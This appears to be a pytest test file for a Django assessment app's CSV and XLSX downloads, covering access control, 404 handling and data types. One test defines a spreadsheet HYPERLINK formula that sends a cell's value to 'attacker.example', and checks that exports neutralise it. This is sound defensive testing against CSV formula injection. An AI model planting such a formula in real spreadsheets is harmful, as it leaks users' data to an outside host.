"""Data downloads: CSV and XLSX of answers (participants only) and results (public once published)."""

import io

import openpyxl
import pytest
from django.urls import reverse

from assessments.models import Response
from tests.people import make_public
from tests.reports.test_results import worked  # noqa: F401  (the worked example as a fixture)

pytestmark = pytest.mark.django_db


def url(assessment, what, fmt):
    return reverse("results:data_download", args=[assessment.pk, what, fmt])


def test_participants_download_every_answer_as_csv(client, worked):  # noqa: F811
    client.force_login(worked.participants.get(role="reviewer").user)
    response = client.get(url(worked, "responses", "csv"))
    text = response.getvalue().decode("utf-8-sig")
    lines = text.strip().splitlines()
    assert lines[0].startswith("indicator,question,institution")
    assert len(lines) == 1 + 6  # six answers in the worked example
    assert response["Content-Disposition"].endswith('-responses.csv"')


def test_results_as_xlsx_have_indicators_and_categories(client, worked):  # noqa: F811
    client.force_login(worked.participants.get(role="reviewer").user)
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(url(worked, "results", "xlsx")).getvalue()))
    assert workbook.sheetnames == ["indicators", "categories"]
    rows = list(workbook["indicators"].values)
    values = {row[0]: row[2] for row in rows[1:]}
    assert values == {"A": 25, "B": 100, "C": 75}
    assert "institution: Labour" in rows[0]


def test_the_public_gets_published_results_but_never_the_answers(client, worked):  # noqa: F811
    make_public(worked)
    assert client.get(url(worked, "responses", "csv")).status_code == 404
    text = client.get(url(worked, "results", "csv")).getvalue().decode("utf-8-sig")
    assert "institution:" not in text and "A," in text


def test_unknown_tables_and_formats_are_404(client, worked):  # noqa: F811
    client.force_login(worked.participants.get(role="reviewer").user)
    assert client.get(url(worked, "secrets", "csv")).status_code == 404
    assert client.get(url(worked, "results", "exe")).status_code == 404


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click here")'


def test_a_formula_in_a_justification_is_never_live_in_a_download(client, worked):  # noqa: F811
    Response.objects.filter(assessment=worked, participant__institution__name="Union").update(
        justification=FORMULA
    )
    client.force_login(worked.participants.get(role="reviewer").user)

    csv_text = client.get(url(worked, "responses", "csv")).getvalue().decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in csv_text  # quoted, and prefixed
    assert "\n" + FORMULA not in csv_text and "," + FORMULA not in csv_text

    workbook = openpyxl.load_workbook(io.BytesIO(client.get(url(worked, "responses", "xlsx")).getvalue()))
    sheet = workbook.active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)  # text, exactly as typed, not a formula


def test_numbers_stay_numbers_and_negative_looking_text_is_text(client, worked):  # noqa: F811
    client.force_login(worked.participants.get(role="reviewer").user)
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(url(worked, "results", "xlsx")).getvalue()))
    values = [row[2] for row in workbook["indicators"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(v, int | float) or v is None for v in values)
